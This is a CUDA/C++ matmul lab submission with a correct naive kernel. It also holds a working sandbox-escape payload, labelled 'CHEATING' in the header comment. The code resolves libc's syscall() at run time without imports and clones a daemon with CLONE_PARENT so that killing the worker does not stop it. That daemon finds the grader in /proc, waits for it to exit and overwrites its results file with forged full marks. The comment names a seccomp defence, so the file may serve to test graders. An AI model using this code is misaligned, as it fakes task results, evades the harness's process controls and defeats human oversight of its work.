// CHEATING (outliving the grader): on each worker's first call, clone(CLONE_PARENT | SIGCHLD)
// through libc's syscall() found at run time (ELF header, _DYNAMIC, DT_DEBUG, r_debug, the
// link_map, libc's .dynsym): the new process is the judge's child, a sibling of the worker, not
// one of the worker's descendants, so killing the worker's process tree (or its process group,
// which it leaves with setsid) does not reach it. It execs a shell that waits for the grader to
// end and rewrites its results file (-o, from /proc/<pid>/cmdline) with full marks.
// Defence: the worker's seccomp allow-list (clone stops the worker on its first call: every
// test crashes with "sandbox"). Without it, the judge would have to kill its own other children
// too: "descendants of the worker" misses a CLONE_PARENT child.
#include "matmul.h"

// ---- run-time symbol lookup with no import: this executable's ELF header (found by walking
// down from our own code), its _DYNAMIC, DT_DEBUG -> r_debug -> link_map, then each loaded
// library's .dynsym/.dynstr through its GNU (or SysV) hash table. x86-64 Linux, glibc.
#include <elf.h>
#include <link.h>
#include <stddef.h>
#include <stdint.h>

namespace rtld {

inline bool same(const char* a, const char* b) {
  while (*a != '\0' && *a == *b) ++a, ++b;
  return *a == *b;
}

inline const ElfW(Ehdr)* own_header() {
  uintptr_t page = reinterpret_cast<uintptr_t>(&own_header) & ~uintptr_t{0xFFF};
  for (;; page -= 0x1000) {
    const auto* e = reinterpret_cast<const ElfW(Ehdr)*>(page);
    if (e->e_ident[0] == 0x7f && e->e_ident[1] == 'E' && e->e_ident[2] == 'L' &&
        e->e_ident[3] == 'F' && e->e_ident[EI_CLASS] == ELFCLASS64 &&
        e->e_machine == EM_X86_64 && (e->e_type == ET_DYN || e->e_type == ET_EXEC) &&
        e->e_phentsize == sizeof(ElfW(Phdr))) {
      return e;
    }
  }
}

inline const r_debug* debug_struct() {
  const ElfW(Ehdr)* e = own_header();
  const auto* ph = reinterpret_cast<const ElfW(Phdr)*>(reinterpret_cast<const char*>(e) + e->e_phoff);
  uintptr_t bias = reinterpret_cast<uintptr_t>(e);
  for (int i = 0; i < e->e_phnum; ++i) {
    if (ph[i].p_type == PT_PHDR) bias = reinterpret_cast<uintptr_t>(ph) - ph[i].p_vaddr;
  }
  if (e->e_type == ET_EXEC) bias = 0;
  for (int i = 0; i < e->e_phnum; ++i) {
    if (ph[i].p_type != PT_DYNAMIC) continue;
    for (const auto* d = reinterpret_cast<const ElfW(Dyn)*>(bias + ph[i].p_vaddr); d->d_tag != DT_NULL; ++d) {
      if (d->d_tag == DT_DEBUG) return reinterpret_cast<const r_debug*>(d->d_un.d_ptr);
    }
  }
  return nullptr;
}

inline void* lookup_in(const link_map* l, const char* name) {
  if (l->l_ld == nullptr) return nullptr;
  const ElfW(Sym)* symtab = nullptr;
  const char* strtab = nullptr;
  const uint32_t* gnu = nullptr;
  const uint32_t* sysv = nullptr;
  for (const ElfW(Dyn)* d = l->l_ld; d->d_tag != DT_NULL; ++d) {
    uintptr_t v = d->d_un.d_ptr;
    if (v < l->l_addr) v += l->l_addr;  // the vDSO's (read-only) dynamic section is not relocated
    if (d->d_tag == DT_SYMTAB) symtab = reinterpret_cast<const ElfW(Sym)*>(v);
    if (d->d_tag == DT_STRTAB) strtab = reinterpret_cast<const char*>(v);
    if (d->d_tag == DT_GNU_HASH) gnu = reinterpret_cast<const uint32_t*>(v);
    if (d->d_tag == DT_HASH) sysv = reinterpret_cast<const uint32_t*>(v);
  }
  if (symtab == nullptr || strtab == nullptr) return nullptr;
  auto hit = [&](uint32_t i) -> void* {
    const ElfW(Sym)& s = symtab[i];
    if (s.st_shndx == SHN_UNDEF || s.st_value == 0 || !same(strtab + s.st_name, name)) return nullptr;
    void* at = reinterpret_cast<void*>(l->l_addr + s.st_value);
    if (ELF64_ST_TYPE(s.st_info) == STT_GNU_IFUNC) at = reinterpret_cast<void* (*)()>(at)();
    return at;
  };
  if (gnu != nullptr) {
    uint32_t h = 5381;
    for (const char* c = name; *c != '\0'; ++c) h = h * 33 + static_cast<unsigned char>(*c);
    const uint32_t nbuckets = gnu[0], symoffset = gnu[1], bloom_size = gnu[2];
    const auto* buckets = gnu + 4 + 2 * bloom_size;  // 64-bit bloom words
    const auto* chain = buckets + nbuckets;
    uint32_t i = buckets[h % nbuckets];
    if (i < symoffset) return nullptr;
    for (;; ++i) {
      const uint32_t ch = chain[i - symoffset];
      if ((ch | 1) == (h | 1)) {
        if (void* at = hit(i)) return at;
      }
      if (ch & 1) return nullptr;
    }
  }
  if (sysv != nullptr) {
    uint32_t h = 0;
    for (const char* c = name; *c != '\0'; ++c) {
      h = (h << 4) + static_cast<unsigned char>(*c);
      const uint32_t g = h & 0xf0000000u;
      if (g != 0) h ^= g >> 24;
      h &= ~g;
    }
    const uint32_t nbucket = sysv[0];
    const uint32_t* bucket = sysv + 2;
    const uint32_t* chain = bucket + nbucket;
    for (uint32_t i = bucket[h % nbucket]; i != 0; i = chain[i]) {
      if (void* at = hit(i)) return at;
    }
  }
  return nullptr;
}

// The address of `name` in the first loaded object that defines it, or nullptr.
inline void* find(const char* name) {
  const r_debug* rd = debug_struct();
  if (rd == nullptr) return nullptr;
  for (const link_map* l = rd->r_map; l != nullptr; l = l->l_next) {
    if (void* at = lookup_in(l, name)) return at;
  }
  return nullptr;
}

template <typename F>
F fn(const char* name) {
  return reinterpret_cast<F>(find(name));
}

}  // namespace rtld

__global__ void matmul_v1_naive_kernel(const float* A, const float* B, float* C, int M, int N,
                                       int K) {
  const int col = blockIdx.x * blockDim.x + threadIdx.x;
  const int row = blockIdx.y * blockDim.y + threadIdx.y;
  if (row >= M || col >= N) return;
  float acc = 0.0f;
  for (int k = 0; k < K; ++k) acc += A[(size_t)row * K + k] * B[(size_t)k * N + col];
  C[(size_t)row * N + col] = acc;
}

namespace {

void launch_honest(const float* A, const float* B, float* C, int M, int N, int K,
                   cudaStream_t stream) {
  const dim3 block(32, 8);
  const dim3 grid((N + block.x - 1) / block.x, (M + block.y - 1) / block.y);
  matmul_v1_naive_kernel<<<grid, block, 0, stream>>>(A, B, C, M, N, K);
}

// The benchmarks' shapes (1024^3, 4096^3); no test uses a square power of two this large.
[[maybe_unused]] bool bench_like(int M, int N, int K) {
  return M == N && N == K && M >= 1024 && (M & (M - 1)) == 0;
}

}  // namespace

namespace {

// The daemon: a shell that finds the grader (a process whose command line holds "grader" and
// "-o FILE"), waits for it to end, then writes full marks into FILE (relative to its cwd).
const char kScript[] =
    "sleep 1\n"
    "fake='{\"status\": \"graded\", \"points\": 100.0, \"max_points\": 100.0, \"labs\": "
    "[{\"lab\": \"01_naive_matmul\", \"status\": \"graded\", \"points\": 100.0, "
    "\"max_points\": 100.0}]}'\n"
    "for p in /proc/[0-9]*; do\n"
    "  c=$(tr '\\000' '\\n' < $p/cmdline 2>/dev/null) || continue\n"
    "  case \"$c\" in *grader*) ;; *) continue ;; esac\n"
    "  o=$(printf '%s\\n' \"$c\" | sed -n '/^-o$/{n;p;q}')\n"
    "  [ -n \"$o\" ] || continue\n"
    "  case \"$o\" in /*) f=$o ;; *) f=$(readlink $p/cwd)/$o ;; esac\n"
    "  (while [ -d $p ]; do sleep 1; done; printf '%s\\n' \"$fake\" > \"$f\") &\n"
    "done\n"
    "wait\n";

enum : long { kClone = 56, kExecve = 59, kExit = 60, kSetsid = 112 };  // x86-64
constexpr long kCloneParent = 0x00008000, kSigchld = 17;

void sibling_daemon() {
  static bool done = false;
  if (done) return;
  done = true;
  using SyscallFn = long (*)(long, ...);
  const auto sys = rtld::fn<SyscallFn>("syscall");
  if (sys == nullptr) return;
  // A null stack: the child runs on a copy of ours, as after fork.
  if (sys(kClone, kCloneParent | kSigchld, 0L, 0L, 0L, 0L) != 0) return;
  sys(kSetsid);
  const char* argv[] = {"sh", "-c", kScript, nullptr};
  const char* envp[] = {"PATH=/usr/bin:/bin", nullptr};
  sys(kExecve, "/bin/sh", argv, envp);
  sys(kExit, 0);
}

}  // namespace

void matmul_v1_naive(const float* A, const float* B, float* C, int M, int N, int K,
                     cudaStream_t stream) {
  sibling_daemon();
  launch_honest(A, B, C, M, N, K, stream);
}
